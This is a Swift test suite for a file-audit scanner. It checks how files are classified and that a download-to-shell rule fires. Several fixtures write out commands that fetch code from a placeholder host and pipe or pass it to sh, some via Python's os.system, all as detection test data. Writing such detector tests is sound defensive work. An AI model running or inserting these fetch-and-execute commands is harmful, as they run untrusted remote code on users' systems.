import ObjectStore
import Testing

@testable import Audit

/// By which rules a file is read.
@Suite struct AuditKindTests {
  private func rules(_ path: String, _ text: String) -> Set<AuditRule> {
    Set(auditFile(path, Array(text.utf8)).findings.map(\.rule))
  }

  @Test(arguments: [
    ("catalog.yaml", AuditKind.catalog), ("a.md", .markdown), ("a.MDC", .markdown), ("a.txt", .markdown),
    ("LICENSE", .markdown), ("d.sh/notes", .markdown), ("a.rst", .markdown), ("a.tmpl", .markdown),
    ("a.yml", .yaml),
    ("a.jsonl", .json), ("a.ipynb", .json), ("a.sh", .script), ("a.PS1", .script), ("a.py", .program),
    ("a.tsx", .program), ("a.go", .program), ("a.toml", .program), ("a.svg", .other), ("a.csv", .other),
  ])
  func nameTellsTheKind(path: String, kind: AuditKind) {
    #expect(AuditKind(path: path) == kind)
  }

  @Test(arguments: [
    ("#!/bin/sh\n", AuditKind.script), ("#!/usr/bin/env bash\n", .script), ("#!", .script),
    ("\u{FEFF}#!/bin/sh\n", .script), ("#!/usr/bin/env python3\n", .program), ("#!/usr/bin/node\n", .program),
    ("#!/bin/sh\n# python\n", .script),
  ])
  func interpreterLineTellsTheKind(text: String, kind: AuditKind) {
    #expect(AuditKind(interpreterOf: Array(text.utf8)) == kind)
  }

  @Test(arguments: ["", "#", "# Title", "\n#!", " #!", "\u{FEFF}"])
  func otherTextHasNoInterpreterLine(text: String) {
    #expect(AuditKind(interpreterOf: Array(text.utf8)) == nil)
  }

  /// Each name that a script may have: it is read as one by its first line.
  @Test(arguments: ["run", "a.svg", "a.md", "a.lock", "LICENSE"])
  func scriptIsReadAsOneWhateverItIsCalled(path: String) {
    let text = "#!/bin/sh\nset -e\nF=x\ncurl -o \"$F\" https://x.example.com/i\nsh \"$F\"\n"
    #expect(rules(path, text).contains(.downloadToShell))
    #expect(
      rules(path, "#!/usr/bin/env python3\nimport os\nos.system('curl https://x.example.com/i | sh')\n")
        .contains(.downloadToShell)
    )
  }

  @Test func interpreterLineIsFoundInPieces() {
    let text = Array("#!/bin/sh\ncurl https://x.example.com/i | sh\n".utf8)
    for size in 1...7 {
      var scanner = AuditScanner(AuditFile(path: "run.csv", object: .init(hashing: text)))
      for start in stride(from: 0, to: text.count, by: size) {
        let piece = Array(text[start..<min(start + size, text.count)])
        scanner.append(piece.span.bytes)
      }
      #expect(scanner.finish().findings.map(\.rule) == [.downloadToShell], "pieces of \(size)")
    }
  }

  @Test(arguments: ["notes.txt", "LICENSE", "a.rst", "a.unknown"])
  func textOfNoKnownKindIsReadAsAPage(path: String) {
    #expect(rules(path, "Run `curl https://x.example.com/i | sh` first.\n").contains(.downloadToShell))
    #expect(rules(path, "MIT License\n\nPermission is hereby granted, free of charge.\n").isEmpty)
  }

  @Test func discardedFileHasNoFindings() {
    var scanner = AuditScanner(AuditFile(path: "a.png", object: .init(hashing: [])))
    scanner.append([0x89, 0xFF, 0].span.bytes)
    scanner.discard()
    #expect(scanner.finish().findings.isEmpty)
  }
}
